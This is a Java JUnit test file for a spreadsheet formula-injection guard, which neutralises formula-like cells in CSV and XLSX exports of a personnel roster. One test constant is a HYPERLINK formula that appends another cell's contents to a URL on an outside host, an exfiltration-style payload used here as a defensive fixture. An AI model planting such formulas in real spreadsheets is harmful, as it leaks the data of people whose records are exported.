package org.jiannuo.infrastructure.spreadsheet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jiannuo.application.spreadsheet.FormulaGuard;
import org.jiannuo.application.spreadsheet.ReadLimits;
import org.jiannuo.application.spreadsheet.Table;
import org.jiannuo.application.spreadsheet.TableWriter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A cell a spreadsheet would evaluate is written as text, and reads back as it was. */
class FormulaGuardTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://x.cn/?\"&C2,\"详情\")";

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", HYPERLINK, "+86 13800000000", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1",
        "'=1+1", "''@x"})
    void guardsWhatASpreadsheetWouldEvaluateAndTakesTheGuardOffOnImport(String cell) {
        String written = FormulaGuard.guard(cell);

        assertEquals("'" + cell, written);
        assertEquals(cell, FormulaGuard.unguard(written));
    }

    @ParameterizedTest
    @ValueSource(strings = {"张三", "城关镇党委/东岭村党支部", "13800000000", "'quoted", "a=b", "", " "})
    void leavesOtherCellsAsTheyAre(String cell) {
        assertEquals(cell, FormulaGuard.guard(cell));
        assertEquals(cell, FormulaGuard.unguard(cell));
    }

    @Test
    void theCsvExportWritesAFormulaAsTextAndTheImportReadsItBack() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter writer = new CsvTableWriter(out)) {
            writer.row(List.of("姓名", "岗位", "身份证号"));
            writer.row(List.of("张三", "=1+1", "11010519491231002X"));
            writer.row(List.of("李四", HYPERLINK, "110101198001010021"));
        }
        String csv = new String(out.toByteArray(), StandardCharsets.UTF_8);

        assertTrue(csv.contains("张三,'=1+1,"), csv);
        assertTrue(csv.contains("李四,\"'=HYPERLINK("), csv);
        Table table = TableReaderTest.read("people.csv", out.toByteArray(), new ReadLimits(1 << 20, 10, 200));
        assertEquals("=1+1", table.rows().get(0).cell(1));
        assertEquals(HYPERLINK, table.rows().get(1).cell(1));
    }

    @Test
    void theXlsxExportWritesAFormulaAsATextCell() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter writer = new XlsxTableWriter(out, "人员名册")) {
            writer.row(List.of("姓名", "岗位"));
            writer.row(Arrays.asList("张三", "=1+1"));
        }

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            XSSFCell cell = workbook.getSheetAt(0).getRow(1).getCell(1);
            assertEquals(CellType.STRING, cell.getCellType());
            assertEquals("=1+1", cell.getStringCellValue());
        }
    }
}
